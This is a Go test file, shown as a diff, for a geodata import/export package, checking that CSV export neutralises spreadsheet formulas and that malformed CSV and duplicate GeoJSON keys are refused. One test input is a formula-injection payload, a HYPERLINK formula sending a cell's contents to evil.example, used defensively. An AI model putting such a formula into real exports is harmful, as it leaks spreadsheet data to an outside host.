@@ -1,0 +1,79 @@
+package geoio
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/paulmach/orb"
+
+	"github.com/siteatlas/siteatlas/internal/site"
+)
+
+// TestCSVExportDefusesFormulas: cells beginning with = + - @ tab or CR were
+// written verbatim, so a colleague's spreadsheet ran them. They get an
+// apostrophe; numbers stay numbers; our reader gives the text back exactly.
+func TestCSVExportDefusesFormulas(t *testing.T) {
+	// Tab and CR are guarded too; they are not in the round trip because
+	// the CSV reader trims the spaces around every cell.
+	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1 555", "-2+3", "@SUM(A1)", "'=already", "''@twice", "plain"}
+	if got := defuseFormula("\tindented"); got != "'\tindented" {
+		t.Errorf("a cell starting with a tab is written %q", got)
+	}
+	var sites []site.Site
+	for i, n := range names {
+		sites = append(sites, site.Site{ID: fmt.Sprintf("00000000-0000-4000-8000-%012d", i+1), Name: n, Notes: n,
+			Geometry: orb.Point{-70.5, -33.86}})
+	}
+	out := string(writeWith(t, NewCSVWriter, sites))
+	for _, bad := range []string{"\n00000000-0000-4000-8000-000000000001,=HYPERLINK", ",+1 555", ",-2+3", ",@SUM"} {
+		if strings.Contains(out, bad) {
+			t.Errorf("the CSV has a formula cell %q:\n%s", bad, out)
+		}
+	}
+	if !strings.Contains(out, "'=HYPERLINK") || !strings.Contains(out, ",-33.86,-70.5,") {
+		t.Errorf("the CSV does not guard formulas or changed numbers:\n%s", out)
+	}
+	res := readAll(t, "x.csv", strings.NewReader(out))
+	if len(res.items) != len(names) {
+		t.Fatalf("read %d sites back", len(res.items))
+	}
+	for i, it := range res.items {
+		if it.Site.Name != names[i] || it.Site.Notes != names[i] {
+			t.Errorf("site %d came back as %q / %q, want %q", i, it.Site.Name, it.Site.Notes, names[i])
+		}
+	}
+}
+
+// TestCSVUnclosedQuoteRefused: a quote never closed swallowed every later
+// row into one field: 100,002 rows imported as one site with a 1.29 MB name.
+func TestCSVUnclosedQuoteRefused(t *testing.T) {
+	var b strings.Builder
+	b.WriteString("name,lat,lon,notes\n")
+	b.WriteString("Tumen factory,42.97,129.84,fine\n")
+	b.WriteString("\"Hunchun plant,42.90,130.30,the quote is never closed\n")
+	for i := range 1000 {
+		fmt.Fprintf(&b, "Site %d,42.%d,129.%d,row\n", i, i%100, i%100)
+	}
+	res := readAll(t, "x.csv", strings.NewReader(b.String()))
+	if len(res.problems) == 0 || !res.problems[len(res.problems)-1].Fatal {
+		t.Fatalf("an unclosed quote read as %d sites", len(res.items))
+	}
+	if msg := res.problems[len(res.problems)-1].Error(); !strings.Contains(msg, "line 3") || !strings.Contains(msg, "never closed") {
+		t.Errorf("the error says %q", msg)
+	}
+}
+
+// TestGeoJSONDuplicateFeaturesRefused: a second top-level "features" was
+// ignored silently, losing its sites.
+func TestGeoJSONDuplicateFeaturesRefused(t *testing.T) {
+	f := `{"type":"Feature","geometry":{"type":"Point","coordinates":[129.8,42.9]},"properties":{"name":"%s"}}`
+	doc := `{"type":"FeatureCollection","features":[` + fmt.Sprintf(f, "first") + `],` + "\n" + `"features":[` + fmt.Sprintf(f, "second") + `]}`
+	res := readAll(t, "x.geojson", strings.NewReader(doc))
+	if len(res.problems) == 0 || !res.problems[len(res.problems)-1].Fatal {
+		t.Fatalf("two features lists read as %d sites", len(res.items))
+	}
+	if msg := res.problems[len(res.problems)-1].Error(); !strings.Contains(msg, "second \"features\"") || !strings.Contains(msg, "line 2") {
+		t.Errorf("the error says %q", msg)
+	}
+}
